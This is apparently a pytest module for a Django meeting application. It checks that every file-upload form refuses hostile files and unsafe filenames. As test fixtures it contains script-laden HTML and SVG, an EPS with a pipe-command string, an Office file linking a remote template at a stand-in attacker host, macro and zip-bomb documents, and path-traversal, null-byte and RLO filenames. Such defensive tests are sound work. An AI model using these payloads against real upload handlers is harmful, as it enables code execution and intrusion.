"""Every form that takes a file, and files that mean harm: refused, or made harmless."""

from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import FileField
from django.urls import reverse

from agenda.models import Material, Speaker, Submission
from meeting import environment as env
from meeting.files import packed
from registration.models import Answer, Category, Registration
from tests.agenda.contributing.test_sending import address
from tests.making import (
    PDF,
    make_item,
    make_meeting,
    make_question,
    make_request,
    make_session,
    make_speaker,
)
from tests.meeting.files.making import make_huge_png, make_office, make_picture
from tests.parts.staff import form_data, sign_in
from tests.registration.sending import send

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n"
LINKED = (
    '<Relationships><Relationship Id="r1" TargetMode="External"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/a.dotm"/></Relationships>'
)
HOSTILE = {
    "a page": ("paper.html", HTML),
    "a page with two endings": ("paper.pdf.html", PDF),
    "a page called a paper": ("paper.pdf", HTML),
    "a page and a paper": ("paper.pdf", HTML + PDF),
    "a drawing with a script": ("drawing.svg", SVG),
    "a drawing called a picture": ("photo.png", SVG),
    "a program of a printer": ("photo.png", EPS),
    "a picture of 400 megapixels": ("photo.png", make_huge_png()),
    "a program": ("paper.exe", b"MZ"),
    "nothing": ("paper.pdf", b""),
    "macros": ("paper.docx", make_office(**{"word/vbaProject.bin": "x"})),
    "what unpacks to far more": ("a.docx", make_office(**{"a.bin": b"\0" * 100_001})),
    "a template elsewhere": (
        "paper.docx",
        make_office(**{"word/_rels/settings.xml.rels": LINKED}),
    ),
}
BAD_NAMES = [
    "../../../etc/paper.{}",
    "C:\\Windows\\paper.{}",
    "paper\u202efdp.{}",
    "paper\0.html.{}",
    "x" * 400 + ".{}",
]
NEW = {"kind": "paper", "visibility": "public"}


def as_material(client, file):
    sign_in(client)
    fields = NEW | {"meeting": make_meeting().pk, "title": "Kept words"}
    return client.post(reverse("admin:agenda_material_add"), fields | {"file": file})


def as_one_of_several(client, file):
    sign_in(client)
    fields = NEW | {"meeting_pk": make_meeting().pk, "files": [file]}
    return client.post(reverse("admin:agenda_material_several"), fields)


def within_an_item(client, file):
    sign_in(client)
    item = make_item(make_session(), title="Kept words")
    page = reverse("admin:agenda_item_change", args=[item.pk])
    data = form_data(client.get(page))
    data |= {"materials-TOTAL_FORMS": "1", "materials-0-file": file}
    data |= {f"materials-0-{name}": value for name, value in NEW.items()}
    return client.post(page, data)


def as_photo(client, file):
    sign_in(client)
    speaker = make_speaker("Kept words")
    page = reverse("admin:agenda_speaker_change", args=[speaker.pk])
    return client.post(page, form_data(client.get(page)) | {"photo": file})


def by_link(client, file, kind="paper"):
    words = {"title": "Kept words", "language": "en"}
    return client.post(address(make_request(kind=kind)), words | {"file": file})


def as_photo_by_link(client, file):
    return by_link(client, file, kind="photo")


def as_answer(client, file):
    question = make_question(kind="file", is_required=True)
    category = Category.objects.of(question.meeting).filter(names="organization")
    typed = {"category": category[0].pk, "organization": "Kept words"}
    typed["asked"] = question.key
    return send(client, question.meeting, **typed | {question.key: file})


DOORS = [
    as_material,
    as_one_of_several,
    within_an_item,
    as_photo,
    by_link,
    as_photo_by_link,
    as_answer,
]
OF_PHOTOS = [as_photo, as_photo_by_link]
# Nothing is typed beside the file.
WITHOUT_WORDS = [as_one_of_several, as_photo_by_link]


@pytest.fixture(autouse=True)
def folder(settings, tmp_path) -> Path:
    """Where files are kept."""
    folder = tmp_path / "stored"
    settings.STORAGES = settings.STORAGES | {"default": env.storage(folder)}
    return folder


def rows():
    photos = Speaker.objects.exclude(photo="")
    sent = Submission.objects.all()
    return [*Material.objects.all(), *photos, *sent, *Registration.objects.all()]


def errors_of(response):
    context = response.context
    forms = [context["form"]] if "form" in context else [context["adminform"].form]
    for inline in context.get("inline_admin_formsets", []):
        forms += inline.formset.forms
    return [
        error
        for form in forms
        for name, errors in form.errors.items()
        if isinstance(form.fields[name], FileField)
        for error in errors
    ]


def files_in(folder):
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize("door", DOORS, ids=lambda door: door.__name__)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_means_harm_is_refused_at_every_door(
    client, monkeypatch, folder, door, hostile
):
    monkeypatch.setattr(packed, "MOST_UNPACKED", 100_000)

    response = door(client, SimpleUploadedFile(*HOSTILE[hostile]))

    assert response.status_code == 200
    assert all(error.endswith(".") for error in errors_of(response))
    assert errors_of(response)
    assert door in WITHOUT_WORDS or "Kept words" in response.text
    assert rows() == []
    assert files_in(folder) == []


@pytest.mark.parametrize("door", DOORS, ids=lambda door: door.__name__)
@pytest.mark.parametrize("name", BAD_NAMES, ids=range(len(BAD_NAMES)))
def test_a_name_that_means_harm_is_kept_nowhere(client, folder, door, name):
    is_photo = door in OF_PHOTOS
    content = make_picture("PNG") if is_photo else PDF

    file = SimpleUploadedFile(name.format("png" if is_photo else "pdf"), content)
    door(client, file)

    assert files_in(folder)
    assert {path.suffix for path in files_in(folder)} <= {".pdf", ".png", ".jpg", ""}
    assert all(len(path.stem) == 32 for path in files_in(folder))
    shown = [each.filename for each in (*Material.objects.all(), *sent_files())]
    shown += [answer.file_name for answer in Answer.objects.exclude(file="")]
    assert bool(shown) or door is as_photo
    for each in shown:
        assert not set(each) & set('/\\\0\r\n\u202e<>:"')
        assert len(each.encode()) <= 255


def sent_files():
    return Submission.objects.exclude(file="")
